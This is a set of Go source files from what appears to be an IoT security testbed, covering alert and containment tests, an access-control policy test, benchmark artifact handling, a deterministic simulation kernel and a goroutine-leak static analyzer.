	c := New(DefaultConfig(), Containment{BlockDevice: func(string) {}})
	c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.3))     // ingested, no alert
	c.Ingest(sig(2*time.Second, Device, "cam-1", "tamper", 0.99)) // alert + containment
	st := c.Stats()
	want := CoreStats{Ingested: 2, Dropped: 0, Alerts: 1, Contained: 1}
	if st != want {
		t.Errorf("Stats() = %+v, want %+v", st, want)
	}
	snap := c.Metrics().Snapshot()
	byName := make(map[string]uint64)
	for _, cs := range snap.Counters {
		byName[cs.Name] = cs.Value
	}
	if byName["core.ingested"] != 2 || byName["core.alerts"] != 1 || byName["core.contained"] != 1 {
		t.Errorf("registry snapshot = %+v", snap.Counters)
	}
}

func TestIngestHistoryBounded(t *testing.T) {
	// A detector misfiring at line rate must not grow per-device state
	// unboundedly (that would be a DoS on the Core itself).
	cfg := DefaultConfig()
	cfg.Window = time.Hour
	c := New(cfg, Containment{})
	var last *Alert
	for i := 0; i < 10000; i++ {
		if a := c.Ingest(sig(time.Duration(i)*time.Millisecond, Network, "cam-1", "noise", 0.99)); a != nil {
			last = a
		}
	}
	if last == nil {
		t.Fatal("no alert raised")
	}
	if len(last.Evidence) > 2048 {
		t.Errorf("evidence grew to %d signals; history not bounded", len(last.Evidence))
	}
}

func TestUnattributedSignalsStored(t *testing.T) {
	c := New(DefaultConfig(), Containment{})
	if a := c.Ingest(Signal{Time: time.Second, Layer: Network, Kind: "ddos-flood", Score: 0.9}); a != nil {
		t.Error("unattributed signal raised a device alert")
	}
}

func TestOnAlertCallbackAndQueries(t *testing.T) {
	c := New(DefaultConfig(), Containment{})
	var seen []Alert
	c.OnAlert = func(a Alert) { seen = append(seen, a) }
	c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.9))
	c.Ingest(sig(time.Second, Device, "bulb-1", "x", 0.9))
	if len(seen) != 2 {
		t.Fatalf("callback saw %d alerts", len(seen))
	}
	if got := c.FlaggedDevices(); len(got) != 2 || got[0] != "bulb-1" {
		t.Errorf("flagged = %v", got)
	}
	if got := c.AlertsFor("cam-1"); len(got) != 1 {
		t.Errorf("AlertsFor cam-1 = %d", len(got))
	}
}

func TestTokenLifetimePolicy(t *testing.T) {
	c := New(DefaultConfig(), Containment{})
	base := time.Hour
	now := 10 * time.Minute
	if got := c.TokenLifetimeFor("clean-1", base, now); got != base {
		t.Errorf("clean device lifetime = %s", got)
	}
	c.Ingest(sig(now, Network, "cam-1", "scan", 0.9))
	if got := c.TokenLifetimeFor("cam-1", base, now); got != base/4 {
		t.Errorf("one-alert lifetime = %s, want %s", got, base/4)
	}
	c.Ingest(sig(now+5*time.Minute, Device, "cam-1", "firmware-tamper", 0.95))
	if got := c.TokenLifetimeFor("cam-1", base, now+5*time.Minute); got != base/16 {
		t.Errorf("multi-alert lifetime = %s, want %s", got, base/16)
	}
}

func TestNACPolicy(t *testing.T) {
	p := NewNACPolicy()
	p.Allow("lan:bulb-1", "wan:hue.example")
	p.AllowInfra("wan:dns")
	hook := p.GatewayHook()

	ok := &netsim.Packet{Src: "lan:bulb-1", Dst: "wan:hue.example"}
	if err := hook(ok); err != nil {
		t.Errorf("enrolled destination denied: %v", err)
	}
	infra := &netsim.Packet{Src: "lan:bulb-1", Dst: "wan:dns"}
	if err := hook(infra); err != nil {
		t.Errorf("infra denied: %v", err)
	}
	bad := &netsim.Packet{Src: "lan:bulb-1", Dst: "wan:cnc"}
	if err := hook(bad); err == nil {
		t.Error("unknown destination allowed")
	}
	p.Block("lan:bulb-1")
	if err := hook(ok); err == nil {
		t.Error("quarantined device allowed out")
	}
	if !p.Blocked("lan:bulb-1") {
		t.Error("Blocked() = false")
	}
	p.Unblock("lan:bulb-1")
	if err := hook(ok); err != nil {
		t.Errorf("unblocked device still denied: %v", err)
	}
	if p.Denials() != 2 {
		t.Errorf("denials = %d, want 2", p.Denials())
	}
	desc := p.Describe()
	if !strings.Contains(desc, "lan:bulb-1") || !strings.Contains(desc, "wan:hue.example") {
		t.Errorf("describe = %q", desc)
	}
}

func TestFigures(t *testing.T) {
	arch := NewArchitecture("gateway")
	for _, c := range StandardComponents() {
		arch.Register(c)
	}
	f1 := arch.RenderFigure1()
	for _, want := range []string{"Figure 1", "Service layer", "Network layer", "Device layer"} {
		if !strings.Contains(f1, want) {
			t.Errorf("figure 1 missing %q", want)
		}
	}
	f4 := arch.RenderFigure4()
	for _, want := range []string{"Figure 4", "XLF Core", "Traffic shaping", "Application verification", "gateway"} {
		if !strings.Contains(f4, want) {
			t.Errorf("figure 4 missing %q", want)
		}
	}
	if len(arch.Components()) != len(StandardComponents()) {
		t.Error("component inventory incomplete")
	}
}

func TestAlertString(t *testing.T) {
	a := Alert{Time: time.Second, DeviceID: "cam-1", Severity: SevCritical, Confidence: 0.9, Layers: []LayerName{Device, Network}, Action: "quarantined"}
	s := a.String()
	for _, want := range []string{"cam-1", "0.90", "critical", "device+network", "quarantined"} {
		if !strings.Contains(s, want) {
			t.Errorf("alert string %q missing %q", s, want)
		}
	}
}
