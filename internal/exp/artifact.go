package exp

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// ArtifactSchema is the version tag every BENCH_<id>.json carries. Bump it
// whenever a field changes meaning; readers (scripts/bench-compare, CI)
// refuse artifacts from a schema they do not understand.
const ArtifactSchema = "xlf-bench/v1"

// ClockWall and ClockStep name the two clock families an artifact can be
// produced under. Only step-clock artifacts promise byte-identical output
// hashes across runs; wall-clock artifacts carry real throughput numbers.
const (
	ClockWall = "wall"
	ClockStep = "step"
)

// RunMeta describes the run that produced a set of artifacts.
type RunMeta struct {
	Seed     int64  `json:"seed"`
	Parallel int    `json:"parallel"`
	Clock    string `json:"clock"`
}

// Artifact is the machine-readable record of one experiment run: the
// BENCH_<id>.json contract that perf PRs are judged against. The rendered
// output itself is summarized by hash (byte-identity checks) and length;
// the headline numbers and telemetry are carried in full.
type Artifact struct {
	Schema string `json:"schema"`
	ID     string `json:"id"`
	Title  string `json:"title"`
	RunMeta
	// Numbers are the experiment's headline metrics (Result.Numbers).
	Numbers map[string]float64 `json:"numbers,omitempty"`
	// OutputSHA256 is the hex SHA-256 of the rendered report section;
	// under -clock step it is stable across machines and parallelism.
	OutputSHA256 string `json:"output_sha256"`
	OutputBytes  int    `json:"output_bytes"`
	// Telemetry is the scheduler's measurement of this run (wall time
	// always; allocation deltas only when the run was sequential).
	Telemetry *Telemetry `json:"telemetry,omitempty"`
}

// NewArtifact captures one result under the given run metadata.
func NewArtifact(r *Result, meta RunMeta) *Artifact {
	out := r.String()
	sum := sha256.Sum256([]byte(out))
	return &Artifact{
		Schema:       ArtifactSchema,
		ID:           r.ID,
		Title:        r.Title,
		RunMeta:      meta,
		Numbers:      r.Numbers,
		OutputSHA256: hex.EncodeToString(sum[:]),
		OutputBytes:  len(out),
		Telemetry:    r.Telemetry,
	}
}

// Validate checks the documented schema invariants. Readers call it on
// every loaded file so a hand-edited or truncated artifact fails loudly.
func (a *Artifact) Validate() error {
	switch {
	case a.Schema != ArtifactSchema:
		return fmt.Errorf("artifact %q: schema %q, want %q", a.ID, a.Schema, ArtifactSchema)
	case a.ID == "":
		return fmt.Errorf("artifact missing id")
	case len(a.OutputSHA256) != sha256.Size*2:
		return fmt.Errorf("artifact %q: output_sha256 %q is not a sha256 hex digest", a.ID, a.OutputSHA256)
	case a.OutputBytes < 0:
		return fmt.Errorf("artifact %q: negative output_bytes %d", a.ID, a.OutputBytes)
	case a.Clock != ClockWall && a.Clock != ClockStep:
		return fmt.Errorf("artifact %q: unknown clock %q", a.ID, a.Clock)
	case a.Parallel < 1:
		return fmt.Errorf("artifact %q: parallel %d < 1", a.ID, a.Parallel)
	case a.Telemetry != nil && a.Telemetry.WallNS < 0:
		return fmt.Errorf("artifact %q: negative wall_ns %d", a.ID, a.Telemetry.WallNS)
	}
	return nil
}

// ArtifactPath returns the canonical file name for an experiment ID inside
// dir: BENCH_<ID>.json.
func ArtifactPath(dir, id string) string {
	return filepath.Join(dir, "BENCH_"+strings.ToUpper(id)+".json")
}

// WriteArtifacts serializes one artifact per result into dir (created if
// absent) and returns the paths written, in result order.
func WriteArtifacts(dir string, results []*Result, meta RunMeta) ([]string, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("bench artifacts: %w", err)
	}
	paths := make([]string, 0, len(results))
	for _, r := range results {
		a := NewArtifact(r, meta)
		if err := a.Validate(); err != nil {
			return nil, fmt.Errorf("bench artifacts: %w", err)
		}
		buf, err := json.MarshalIndent(a, "", "  ")
		if err != nil {
			return nil, fmt.Errorf("bench artifacts: %w", err)
		}
		p := ArtifactPath(dir, r.ID)
		if err := os.WriteFile(p, append(buf, '\n'), 0o644); err != nil {
			return nil, fmt.Errorf("bench artifacts: %w", err)
		}
		paths = append(paths, p)
	}
	return paths, nil
}

// ReadArtifact loads and validates one artifact file.
func ReadArtifact(path string) (*Artifact, error) {
	buf, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("bench artifact: %w", err)
	}
	var a Artifact
	if err := json.Unmarshal(buf, &a); err != nil {
		return nil, fmt.Errorf("bench artifact %s: %w", path, err)
	}
	if err := a.Validate(); err != nil {
		return nil, fmt.Errorf("bench artifact %s: %w", path, err)
	}
	return &a, nil
}

// ReadArtifactDir loads every BENCH_*.json in dir, keyed and sorted by
// experiment ID.
func ReadArtifactDir(dir string) (map[string]*Artifact, []string, error) {
	matches, err := filepath.Glob(filepath.Join(dir, "BENCH_*.json"))
	if err != nil {
		return nil, nil, fmt.Errorf("bench artifacts: %w", err)
	}
	byID := make(map[string]*Artifact, len(matches))
	ids := make([]string, 0, len(matches))
	for _, p := range matches {
		a, err := ReadArtifact(p)
		if err != nil {
			return nil, nil, err
		}
		if _, dup := byID[a.ID]; dup {
			return nil, nil, fmt.Errorf("bench artifacts: duplicate id %q in %s", a.ID, dir)
		}
		byID[a.ID] = a
		ids = append(ids, a.ID)
	}
	sort.Strings(ids)
	return byID, ids, nil
}
