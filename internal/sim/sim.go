// Package sim provides a deterministic discrete-event simulation kernel.
//
// Every time-dependent component of the XLF testbed (devices, links, DNS,
// clouds, attackers) runs on a sim.Kernel rather than the wall clock, so a
// whole smart-home scenario — including attacks and detections — replays
// bit-identically from a seed. Time is modeled as a time.Duration offset
// from the simulation epoch.
package sim

import (
	"container/heap"
	"errors"
	"fmt"
	"math/rand"
	"time"

	"xlf/internal/obs"
)

// Event is a scheduled callback. Events run in timestamp order; ties are
// broken by scheduling order so runs are deterministic. Exactly one of
// Fn and FnArg is set: FnArg events (from ScheduleArg) carry their
// argument in Arg, so high-rate callers can reuse one function value
// instead of allocating a capturing closure per event.
type Event struct {
	At   time.Duration
	Name string
	Fn   func()

	// FnArg, when non-nil, is dispatched as FnArg(Arg) instead of Fn().
	FnArg func(any)
	Arg   any

	seq      uint64
	canceled bool
	index    int
}

// Cancel marks the event so the kernel skips it when its time arrives.
// Canceling an already-executed event is a no-op.
func (e *Event) Cancel() {
	if e != nil {
		e.canceled = true
	}
}

// Canceled reports whether Cancel has been called on the event.
func (e *Event) Canceled() bool { return e != nil && e.canceled }

type eventQueue []*Event

func (q eventQueue) Len() int { return len(q) }

func (q eventQueue) Less(i, j int) bool {
	if q[i].At != q[j].At {
		return q[i].At < q[j].At
	}
	return q[i].seq < q[j].seq
}

func (q eventQueue) Swap(i, j int) {
	q[i], q[j] = q[j], q[i]
	q[i].index = i
	q[j].index = j
}

func (q *eventQueue) Push(x any) {
	e := x.(*Event)
	e.index = len(*q)
	*q = append(*q, e)
}

func (q *eventQueue) Pop() any {
	old := *q
	n := len(old)
	e := old[n-1]
	old[n-1] = nil
	e.index = -1
	*q = old[:n-1]
	return e
}

// ErrStopped is returned by Run when StopNow interrupted the event loop.
var ErrStopped = errors.New("sim: kernel stopped")

// Kernel is a single-threaded discrete-event scheduler with its own seeded
// randomness source. It is not safe for concurrent use; the simulation
// model is strictly sequential, which is what makes runs reproducible.
type Kernel struct {
	now     time.Duration
	queue   eventQueue
	seq     uint64
	rng     *rand.Rand
	stopped bool
	ran     uint64
	tracer  *obs.Tracer
}

// NewKernel returns a kernel whose random source is seeded with seed.
// The same seed and the same scheduling sequence yield identical runs.
func NewKernel(seed int64) *Kernel {
	return &Kernel{rng: rand.New(rand.NewSource(seed))}
}

// Now returns the current simulated time as an offset from the epoch.
func (k *Kernel) Now() time.Duration { return k.now }

// Rand returns the kernel's deterministic random source. Components must
// draw all randomness from here, never from package-level rand or crypto
// rand, so that scenarios replay exactly.
func (k *Kernel) Rand() *rand.Rand { return k.rng }

// Pending returns the number of events waiting in the queue, including
// canceled events that have not yet been discarded.
func (k *Kernel) Pending() int { return len(k.queue) }

// Processed returns how many events have executed since the kernel was
// created.
func (k *Kernel) Processed() uint64 { return k.ran }

// SetTracer attaches an observability tracer; every dispatched event then
// emits a sim-layer span. A nil tracer (the default) disables emission at
// the cost of one branch per event.
func (k *Kernel) SetTracer(t *obs.Tracer) { k.tracer = t }

// Schedule queues fn to run after delay (relative to Now). A negative delay
// is treated as zero. The returned Event may be used to cancel the call.
func (k *Kernel) Schedule(delay time.Duration, name string, fn func()) *Event {
	if delay < 0 {
		delay = 0
	}
	return k.ScheduleAt(k.now+delay, name, fn)
}

// ScheduleAt queues fn to run at absolute simulated time at. Times in the
// past are clamped to Now.
func (k *Kernel) ScheduleAt(at time.Duration, name string, fn func()) *Event {
	if fn == nil {
		panic("sim: ScheduleAt called with nil fn")
	}
	if at < k.now {
		at = k.now
	}
	k.seq++
	e := &Event{At: at, Name: name, Fn: fn, seq: k.seq}
	heap.Push(&k.queue, e)
	return e
}

// ScheduleArg queues fn(arg) to run after delay. It is the zero-closure
// variant of Schedule for per-packet/per-event hot paths: the caller
// keeps one long-lived fn and threads the payload through arg, so the
// only allocation per call is the Event itself.
func (k *Kernel) ScheduleArg(delay time.Duration, name string, fn func(any), arg any) *Event {
	if fn == nil {
		panic("sim: ScheduleArg called with nil fn")
	}
	if delay < 0 {
		delay = 0
	}
	at := k.now + delay
	k.seq++
	e := &Event{At: at, Name: name, FnArg: fn, Arg: arg, seq: k.seq}
	heap.Push(&k.queue, e)
	return e
}

// StopNow aborts the current Run after the in-flight event returns.
func (k *Kernel) StopNow() { k.stopped = true }

// Step executes the single earliest pending event, skipping canceled ones.
// It reports whether an event was executed.
//
//xlf:hotpath
func (k *Kernel) Step() bool {
	for len(k.queue) > 0 {
		e := heap.Pop(&k.queue).(*Event)
		if e.canceled {
			continue
		}
		k.now = e.At
		k.ran++
		if k.tracer != nil {
			k.tracer.EmitAt(e.At, obs.LayerSim, "event", "", e.Name)
		}
		if e.FnArg != nil {
			e.FnArg(e.Arg)
		} else {
			e.Fn()
		}
		return true
	}
	return false
}

// Run executes events in order until the queue is empty or simulated time
// would pass until. The clock is left at until if the horizon was reached
// with events still pending, or at the last executed event otherwise.
// Run returns ErrStopped if StopNow was called during an event.
func (k *Kernel) Run(until time.Duration) error {
	k.stopped = false
	for len(k.queue) > 0 {
		if k.stopped {
			return ErrStopped
		}
		next := k.queue[0]
		if next.canceled {
			heap.Pop(&k.queue)
			continue
		}
		if next.At > until {
			k.now = until
			return nil
		}
		k.Step()
	}
	if k.now < until {
		k.now = until
	}
	return nil
}

// RunAll executes every pending event regardless of horizon. maxEvents
// bounds runaway self-rescheduling loops; it returns an error when the
// bound is hit.
func (k *Kernel) RunAll(maxEvents int) error {
	for i := 0; ; i++ {
		if i >= maxEvents {
			return fmt.Errorf("sim: RunAll exceeded %d events at t=%s", maxEvents, k.now)
		}
		if k.stopped {
			return ErrStopped
		}
		if !k.Step() {
			return nil
		}
	}
}

// Every schedules fn to run now+interval, then repeatedly every interval,
// until the returned Ticker is stopped. Jitter, if positive, adds a uniform
// random offset in [0, jitter) to each firing so that periodic sources do
// not phase-lock artificially.
func (k *Kernel) Every(interval, jitter time.Duration, name string, fn func()) *Ticker {
	if interval <= 0 {
		panic("sim: Every requires a positive interval")
	}
	t := &Ticker{kernel: k, interval: interval, jitter: jitter, name: name, fn: fn}
	t.arm()
	return t
}

// Ticker is a repeating scheduled callback created by Kernel.Every.
type Ticker struct {
	kernel   *Kernel
	interval time.Duration
	jitter   time.Duration
	name     string
	fn       func()
	pending  *Event
	stopped  bool
	fires    int
}

func (t *Ticker) arm() {
	d := t.interval
	if t.jitter > 0 {
		d += time.Duration(t.kernel.rng.Int63n(int64(t.jitter)))
	}
	t.pending = t.kernel.Schedule(d, t.name, func() {
		if t.stopped {
			return
		}
		t.fires++
		t.fn()
		if !t.stopped {
			t.arm()
		}
	})
}

// Stop cancels future firings. It is safe to call from inside the callback.
func (t *Ticker) Stop() {
	t.stopped = true
	t.pending.Cancel()
}

// Fires returns how many times the ticker's callback has run.
func (t *Ticker) Fires() int { return t.fires }
