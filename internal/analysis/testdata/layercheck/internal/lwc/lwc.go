// Package lwc is a layercheck fixture leaf: declared in the table with no
// granted edges, and importing only the stdlib, so it stays clean.
package lwc

import "fmt"

// Registry is referenced by the device fixture.
type Registry struct{}

var _ = fmt.Sprint(Registry{})
