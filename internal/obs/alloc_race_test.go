//go:build race

package obs

func init() { raceEnabled = true }
