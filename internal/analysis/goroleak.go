package analysis

// Goroutine-leak detection. The XLF gateway is a long-lived process: a
// goroutine that never terminates, or that blocks forever on a channel
// nobody reads, accumulates across device churn until the process is
// OOM-killed — an availability failure an attacker can force by cycling
// sessions. Three leak shapes are caught, all conservative:
//
//  1. `go func() { for { ... } }()` where the infinite loop contains no
//     exit signal at all — no return, break, goto, channel receive,
//     range, or select. There is no way to stop such a goroutine.
//  2. WaitGroup misuse: Add called *inside* a launched goroutine on a
//     group declared outside it (races with the matching Wait, which
//     can pass before the goroutine is scheduled), and a local
//     WaitGroup that is Added to but never Waited on and never escapes
//     (the launched work outlives the function silently).
//  3. A goroutine that sends on an unbuffered channel created in the
//     same function, where some CFG path from the go statement reaches
//     the function exit without receiving from (or forwarding) the
//     channel. On that path the send blocks forever.
//
// Anything the walker cannot resolve — channels passed in, groups that
// escape, receives behind function calls — stays quiet. A reviewed
// exception is waived with //xlf:allow-goroleak.

import (
	"go/ast"
	"go/token"
	"go/types"
)

// AllowGoroLeakMarker waives a goroleak finding on its line (or the
// whole function when placed in the doc comment).
const AllowGoroLeakMarker = "xlf:allow-goroleak"

// GoroLeak detects leak-shaped goroutine launches.
type GoroLeak struct {
	oracle   *typeOracle
	prepared bool
}

// NewGoroLeak builds the analyzer.
func NewGoroLeak() *GoroLeak {
	return &GoroLeak{oracle: newTypeOracle()}
}

// Name implements Analyzer.
func (g *GoroLeak) Name() string { return "goroleak" }

// Doc implements Documented.
func (g *GoroLeak) Doc() string {
	return "launched goroutines need a shutdown path, a receiver for their sends, and Add-before-go WaitGroup use"
}

// Prepare implements ModuleAnalyzer: the tolerant type-check supplies
// object identity so channel and WaitGroup references resolve through
// shadowing.
func (g *GoroLeak) Prepare(pkgs []*Package) {
	if g.prepared {
		return
	}
	g.prepared = true
	g.oracle.check(pkgs)
}

// Check implements Analyzer. Test files are skipped: tests launch
// scaffolding goroutines whose lifetime is the test binary's.
func (g *GoroLeak) Check(pkg *Package) []Finding {
	if !g.prepared {
		g.Prepare([]*Package{pkg})
	}
	pt := g.oracle.typesOf(pkg)
	var out []Finding
	for fi := range pkg.Files {
		file := &pkg.Files[fi]
		if file.Test {
			continue
		}
		w := &goroWalker{
			pkg:     pkg,
			pt:      pt,
			allowed: allowedLines(pkg.Fset, file.AST, AllowGoroLeakMarker),
			wgObjs:  collectWaitGroups(pt, file.AST),
			decls:   funcDeclIndex(pt, pkg),
		}
		for _, fn := range Functions(file.AST) {
			w.checkFunction(fn)
		}
		out = append(out, w.out...)
	}
	return out
}

// collectWaitGroups maps every sync.WaitGroup-typed object declared in
// the file — vars, params, struct fields — to its declaration position.
// The match is syntactic on the type expression because the tolerant
// checker stubs the sync package.
func collectWaitGroups(pt *pkgTypes, f *ast.File) map[any]token.Pos {
	syncName, ok := importName(f, "sync")
	if !ok {
		syncName = "sync"
	}
	isWG := func(t ast.Expr) bool {
		if st, ok := t.(*ast.StarExpr); ok {
			t = st.X
		}
		sel, ok := t.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		id, ok := sel.X.(*ast.Ident)
		return ok && id.Name == syncName && sel.Sel.Name == "WaitGroup"
	}
	out := make(map[any]token.Pos)
	ast.Inspect(f, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.ValueSpec:
			if n.Type != nil && isWG(n.Type) {
				for _, nm := range n.Names {
					out[identObj(pt, nm)] = nm.Pos()
				}
			}
		case *ast.Field:
			if n.Type != nil && isWG(n.Type) {
				for _, nm := range n.Names {
					out[identObj(pt, nm)] = nm.Pos()
				}
			}
		}
		return true
	})
	return out
}

// goroWalker checks one file's functions.
type goroWalker struct {
	pkg     *Package
	pt      *pkgTypes
	allowed map[int]bool
	wgObjs  map[any]token.Pos
	decls   map[*types.Func]*ast.FuncDecl
	out     []Finding
}

// funcDeclIndex maps every declared function object in the package to
// its declaration, so go statements launching named functions and
// method values resolve to a checkable body.
func funcDeclIndex(pt *pkgTypes, pkg *Package) map[*types.Func]*ast.FuncDecl {
	if pt == nil {
		return nil
	}
	out := make(map[*types.Func]*ast.FuncDecl)
	for fi := range pkg.Files {
		for _, decl := range pkg.Files[fi].AST.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok {
				continue
			}
			if obj, ok := pt.info.Defs[fd.Name].(*types.Func); ok {
				out[obj] = fd
			}
		}
	}
	return out
}

func (w *goroWalker) report(pos token.Pos, format string, args ...any) {
	if w.allowed[w.pkg.Fset.Position(pos).Line] {
		return
	}
	w.out = append(w.out, w.pkg.finding("goroleak", pos, format, args...))
}

// chanMake is one `ch := make(chan T)` site in the function.
type chanMake struct {
	obj  any
	name string
}

// checkFunction runs the three leak rules over one function body.
// Nested literals are enumerated as their own Functions, so the
// shallow collection pass does not descend into them.
func (w *goroWalker) checkFunction(fn Function) {
	if fn.Body == nil {
		return
	}
	var goStmts []*ast.GoStmt
	var chans []chanMake
	var localWGs []*ast.Ident
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.FuncLit:
			return false
		case *ast.GoStmt:
			goStmts = append(goStmts, n)
			return false
		case *ast.AssignStmt:
			if n.Tok != token.DEFINE || len(n.Lhs) != len(n.Rhs) {
				return true
			}
			for i, rhs := range n.Rhs {
				id, ok := n.Lhs[i].(*ast.Ident)
				if ok && id.Name != "_" && isUnbufferedChanMake(rhs) {
					chans = append(chans, chanMake{identObj(w.pt, id), id.Name})
				}
			}
		case *ast.DeclStmt:
			gd, ok := n.Decl.(*ast.GenDecl)
			if !ok || gd.Tok != token.VAR {
				return true
			}
			for _, spec := range gd.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				for i, nm := range vs.Names {
					if w.wgObjs != nil {
						if _, isWG := w.wgObjs[identObj(w.pt, nm)]; isWG {
							localWGs = append(localWGs, nm)
						}
					}
					if i < len(vs.Values) && isUnbufferedChanMake(vs.Values[i]) {
						chans = append(chans, chanMake{identObj(w.pt, nm), nm.Name})
					}
				}
			}
		}
		return true
	})

	for _, gs := range goStmts {
		lit, ok := gs.Call.Fun.(*ast.FuncLit)
		if !ok {
			w.checkNamedGo(fn, gs)
			continue
		}
		if fs := infiniteForNoExit(lit); fs != nil {
			w.report(fs.Pos(), "goroutine loops forever with no shutdown path (no return, break, receive or select); it can never be stopped")
		}
		w.checkAddInsideGo(lit)
		w.checkUnbufferedSend(fn, gs, lit, chans)
	}
	for _, wg := range localWGs {
		w.checkLocalWaitGroup(fn, wg)
	}
}

// isUnbufferedChanMake matches the single-argument make(chan T) form.
// A buffered channel's sends complete without a rendezvous, so only
// the unbuffered form can strand a sender.
func isUnbufferedChanMake(e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok || len(call.Args) != 1 {
		return false
	}
	id, ok := call.Fun.(*ast.Ident)
	if !ok || id.Name != "make" {
		return false
	}
	_, isChan := call.Args[0].(*ast.ChanType)
	return isChan
}

// checkNamedGo resolves go statements that launch a named function or
// method — `go spin()`, `go p.run()`, or `f := p.run; go f()` — to the
// callee's declaration in this package and applies the
// unstoppable-loop check to its body. Anything unresolvable (cross-
// package callees, reassigned function variables) stays quiet.
func (w *goroWalker) checkNamedGo(fn Function, gs *ast.GoStmt) {
	fd := w.resolveFuncDecl(fn, gs.Call.Fun, true)
	if fd == nil || fd.Body == nil {
		return
	}
	if infiniteForNoExitBody(fd.Body) != nil {
		w.report(gs.Pos(), "goroutine %s loops forever with no shutdown path (no return, break, receive or select); it can never be stopped", declDisplay(fd))
	}
}

// resolveFuncDecl resolves a go statement's callee expression to a
// function declared in this package. With followVars set, an identifier
// bound exactly once to a method or function value inside fn resolves
// through that binding.
func (w *goroWalker) resolveFuncDecl(fn Function, e ast.Expr, followVars bool) *ast.FuncDecl {
	if w.pt == nil || w.decls == nil {
		return nil
	}
	switch e := ast.Unparen(e).(type) {
	case *ast.SelectorExpr:
		if obj, ok := w.pt.info.Uses[e.Sel].(*types.Func); ok {
			return w.decls[obj]
		}
	case *ast.Ident:
		switch obj := w.pt.info.Uses[e].(type) {
		case *types.Func:
			return w.decls[obj]
		case *types.Var:
			if followVars {
				return w.resolveFuncVar(fn, obj)
			}
		}
	}
	return nil
}

// resolveFuncVar resolves a function-typed local that is assigned
// exactly once in fn to the declaration of the method or function value
// it holds; multiple assignments make the target ambiguous.
func (w *goroWalker) resolveFuncVar(fn Function, obj *types.Var) *ast.FuncDecl {
	var rhs ast.Expr
	multiple := false
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		as, ok := n.(*ast.AssignStmt)
		if !ok || len(as.Lhs) != len(as.Rhs) {
			return true
		}
		for i, lhs := range as.Lhs {
			id, ok := lhs.(*ast.Ident)
			if !ok || w.pt.info.Defs[id] != types.Object(obj) && w.pt.info.Uses[id] != types.Object(obj) {
				continue
			}
			if rhs != nil {
				multiple = true
				return false
			}
			rhs = as.Rhs[i]
		}
		return true
	})
	if rhs == nil || multiple {
		return nil
	}
	return w.resolveFuncDecl(fn, rhs, false)
}

// declDisplay names a declaration for diagnostics: "run" or "pump.run".
func declDisplay(fd *ast.FuncDecl) string {
	if fd.Recv != nil && len(fd.Recv.List) > 0 {
		if recv := recvTypeName(fd.Recv.List[0].Type); recv != "" {
			return recv + "." + fd.Name.Name
		}
	}
	return fd.Name.Name
}

// infiniteForNoExit finds a `for { ... }` loop inside the goroutine
// body whose body contains no construct that could ever leave it or
// park it on an external signal. Nested function literals are opaque.
func infiniteForNoExit(lit *ast.FuncLit) *ast.ForStmt {
	return infiniteForNoExitBody(lit.Body)
}

// infiniteForNoExitBody is infiniteForNoExit over any function body —
// literal or declared.
func infiniteForNoExitBody(body *ast.BlockStmt) *ast.ForStmt {
	var bad *ast.ForStmt
	ast.Inspect(body, func(n ast.Node) bool {
		if bad != nil {
			return false
		}
		if _, isLit := n.(*ast.FuncLit); isLit {
			return false
		}
		fs, ok := n.(*ast.ForStmt)
		if !ok || fs.Cond != nil {
			return true
		}
		if !hasExitSignal(fs.Body) {
			bad = fs
			return false
		}
		return true
	})
	return bad
}

// hasExitSignal reports whether the loop body contains any construct
// that can terminate the loop or block on an external event: return,
// break, goto, select, a channel receive or range, or a no-return call
// (panic, os.Exit, log.Fatal).
func hasExitSignal(body *ast.BlockStmt) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if found {
			return false
		}
		switch n := n.(type) {
		case *ast.FuncLit:
			return false
		case *ast.BranchStmt:
			if n.Tok == token.BREAK || n.Tok == token.GOTO {
				found = true
			}
		case *ast.ReturnStmt:
			found = true
		case *ast.SelectStmt:
			found = true
		case *ast.RangeStmt:
			found = true
		case *ast.UnaryExpr:
			if n.Op == token.ARROW {
				found = true
			}
		case *ast.ExprStmt:
			if isNoReturnCall(n.X) {
				found = true
			}
		}
		return true
	})
	return found
}

// checkAddInsideGo flags wg.Add on a WaitGroup declared outside the
// launched literal: the goroutine may not be scheduled before Wait
// runs, so Wait can return while work is still pending. Requires type
// info — without it a captured group cannot be told from a local one.
func (w *goroWalker) checkAddInsideGo(lit *ast.FuncLit) {
	if w.pt == nil {
		return
	}
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok || sel.Sel.Name != "Add" {
			return true
		}
		declPos, ok := w.wgTarget(sel.X)
		if !ok || (declPos >= lit.Pos() && declPos <= lit.End()) {
			return true
		}
		w.report(call.Pos(), "WaitGroup.Add inside the goroutine races with Wait; call Add before the go statement")
		return true
	})
}

// wgTarget resolves a method receiver expression to a known
// sync.WaitGroup object's declaration position.
func (w *goroWalker) wgTarget(e ast.Expr) (token.Pos, bool) {
	switch v := e.(type) {
	case *ast.ParenExpr:
		return w.wgTarget(v.X)
	case *ast.StarExpr:
		return w.wgTarget(v.X)
	case *ast.Ident:
		pos, ok := w.wgObjs[identObj(w.pt, v)]
		return pos, ok
	case *ast.SelectorExpr:
		if w.pt != nil {
			if obj := w.pt.info.Uses[v.Sel]; obj != nil {
				pos, ok := w.wgObjs[obj]
				return pos, ok
			}
		}
	}
	return token.NoPos, false
}

// checkLocalWaitGroup flags a function-local WaitGroup with Add but no
// Wait: the goroutines it counts outlive the function unjoined. A
// group that escapes (address taken, assigned, passed, returned) may
// be waited on elsewhere and stays quiet.
func (w *goroWalker) checkLocalWaitGroup(fn Function, decl *ast.Ident) {
	obj := identObj(w.pt, decl)
	accounted := map[*ast.Ident]bool{decl: true}
